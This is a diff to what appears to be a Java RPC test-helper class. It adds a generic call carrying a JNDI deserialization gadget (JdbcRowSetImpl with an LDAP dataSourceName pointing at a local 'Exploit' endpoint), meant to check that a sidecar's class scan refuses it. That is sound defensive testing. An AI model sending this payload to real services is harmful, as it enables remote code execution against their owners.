@@ -114,6 +114,19 @@ final class Calls {
         return generic.$invoke("greet", new String[] {"com.example.Person"}, new Object[] {person});
     }
 
+    /**
+     * A generic call whose argument map names the JNDI gadget in its "class" entry: the
+     * provider's PojoUtils.realize would build com.sun.rowset.JdbcRowSetImpl from it.
+     * For the sidecar's ingress class scan, which must refuse it.
+     */
+    Object genericGadget() {
+        Map<String, Object> gadget = new LinkedHashMap<>();
+        gadget.put("class", "com.sun.rowset.JdbcRowSetImpl");
+        gadget.put("dataSourceName", "ldap://127.0.0.1:1389/Exploit");
+        gadget.put("autoCommit", true);
+        return generic.$invoke("greet", new String[] {"com.example.Person"}, new Object[] {gadget});
+    }
+
     /** N calls from min(N, 64) threads, each checking its own nonce comes back. */
     Object concurrent(int n) throws Exception {
         ExecutorService pool = Executors.newFixedThreadPool(Math.max(1, Math.min(n, 64)));
